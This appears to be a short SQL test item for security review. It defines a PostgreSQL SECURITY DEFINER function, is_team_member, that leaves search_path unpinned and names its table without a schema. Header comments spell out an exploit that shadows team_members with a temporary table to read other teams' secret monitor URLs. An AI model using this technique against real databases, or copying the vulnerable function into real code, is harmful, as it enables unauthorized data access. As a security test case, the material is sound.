-- The helper no longer pins its search path and names the table without a schema; a temporary table of that
-- name makes everybody a member of every team.
-- about: is_team_member, team_members, monitors
-- as: hf_heartbeat_app
-- exploit: SET request.jwt.claims = '{"sub":"usr_ann"}';
-- exploit: CREATE TEMP TABLE team_members AS SELECT 'tm_road'::text AS team_id, 'usr_ann'::text AS user_id;
-- exploit: SELECT url FROM monitors;
-- shows: https://Road-secret.test
CREATE OR REPLACE FUNCTION is_team_member(t text) RETURNS boolean LANGUAGE plpgsql
STABLE SECURITY DEFINER AS $$
BEGIN
  -- PL/pgSQL keeps the plan between calls.
  RETURN EXISTS (SELECT 1 FROM team_members m WHERE m.team_id = t AND m.user_id = jwt_sub());
END $$;
